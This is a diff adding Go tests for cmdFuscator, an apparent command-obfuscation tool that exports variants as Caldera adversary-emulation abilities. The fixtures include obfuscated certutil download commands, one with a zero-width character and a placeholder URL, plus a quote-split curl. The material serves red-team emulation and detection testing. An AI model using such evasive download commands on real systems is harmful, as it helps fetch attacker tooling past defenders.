@@ -0,0 +1,90 @@
+package export
+
+import (
+	"bytes"
+	"regexp"
+	"strings"
+	"testing"
+
+	"gopkg.in/yaml.v3"
+
+	"cmdFuscator/engine"
+	"cmdFuscator/models"
+)
+
+var certutil = &models.ProfileFile{Name: "certutil", Profiles: []models.Profile{{
+	Platform: "windows", Description: "Certificate utility.", Attack: []string{"T1105", "T1140"},
+}}}
+
+func TestCalderaAbility(t *testing.T) {
+	tests := []struct {
+		name         string
+		v            Variant
+		platform     string
+		executor     string
+		tactic, tech string
+	}{
+		{"cmd", Variant{Profile: certutil, Command: "cErTuTiL -f", Target: engine.TargetCmd}, "windows", "cmd", "command-and-control", "Ingress Tool Transfer"},
+		{"powershell", Variant{Profile: certutil, Command: "cErTuTiL -f", Target: engine.TargetPowerShell}, "windows", "psh", "command-and-control", "Ingress Tool Transfer"},
+		{"auto", Variant{Profile: certutil, Command: "cErTuTiL -f"}, "windows", "cmd", "command-and-control", "Ingress Tool Transfer"},
+		{"macos", Variant{Profile: &models.ProfileFile{Name: "curl", Profiles: []models.Profile{{Platform: "macos", Attack: []string{"T9999"}}}}, Command: "cu''rl x", Target: engine.TargetBash},
+			"darwin", "sh", "execution", "T9999"},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			a, err := CalderaAbility("x", tt.v)
+			if err != nil {
+				t.Fatal(err)
+			}
+			if got := a.Platforms[tt.platform][tt.executor].Command; got != tt.v.Command {
+				t.Errorf("Platforms = %v, want %s/%s running %q", a.Platforms, tt.platform, tt.executor, tt.v.Command)
+			}
+			if a.Tactic != tt.tactic || a.Technique.Name != tt.tech {
+				t.Errorf("tactic %q, technique %+v; want %q, %q", a.Tactic, a.Technique, tt.tactic, tt.tech)
+			}
+		})
+	}
+
+	a, _ := CalderaAbility("x", Variant{Profile: certutil, Original: "certutil -f", Command: "c", Modifiers: []string{"RandomCase"}})
+	want := "Certificate utility. Obfuscated by cmdFuscator with RandomCase. Also exercises T1140. Original command: certutil -f"
+	if a.Description != want {
+		t.Errorf("Description = %q, want %q", a.Description, want)
+	}
+	uuid := regexp.MustCompile(`^[0-9a-f]{8}-[0-9a-f]{4}-5[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$`)
+	b, _ := CalderaAbility("y", Variant{Profile: certutil, Command: "c"})
+	c, _ := CalderaAbility("x", Variant{Profile: certutil, Command: "c", Target: engine.TargetPowerShell})
+	if !uuid.MatchString(a.ID) || a.ID != b.ID || a.ID == c.ID {
+		t.Errorf("IDs %s %s %s: want UUIDs, the same for the same executor and command", a.ID, b.ID, c.ID)
+	}
+
+	if _, err := CalderaAbility("x", Variant{Profile: &models.ProfileFile{Name: "x", Profiles: []models.Profile{{Platform: "plan9"}}}}); err == nil {
+		t.Error("unknown platform: want an error")
+	}
+}
+
+func TestWriteCaldera(t *testing.T) {
+	var abilities []Ability
+	for _, cmd := range []string{"cErTuTiL -url\u200dcache -f https://x/?a=1&b=2 a", `c^e"r"tutil: #x`} {
+		a, err := CalderaAbility("certutil", Variant{Profile: certutil, Command: cmd, Target: engine.TargetCmd})
+		if err != nil {
+			t.Fatal(err)
+		}
+		abilities = append(abilities, a)
+	}
+	var buf bytes.Buffer
+	if err := WriteCaldera(&buf, abilities); err != nil {
+		t.Fatal(err)
+	}
+	if !strings.HasPrefix(buf.String(), "- id: ") || !strings.Contains(buf.String(), "\n  technique:\n    attack_id: T1105\n") {
+		t.Errorf("not laid out like stockpile:\n%s", buf.String())
+	}
+	var back []Ability
+	if err := yaml.Unmarshal(buf.Bytes(), &back); err != nil {
+		t.Fatal(err)
+	}
+	for i := range abilities {
+		if got, want := back[i].Platforms["windows"]["cmd"].Command, abilities[i].Platforms["windows"]["cmd"].Command; got != want {
+			t.Errorf("ability %d command = %q after a round trip, want %q", i, got, want)
+		}
+	}
+}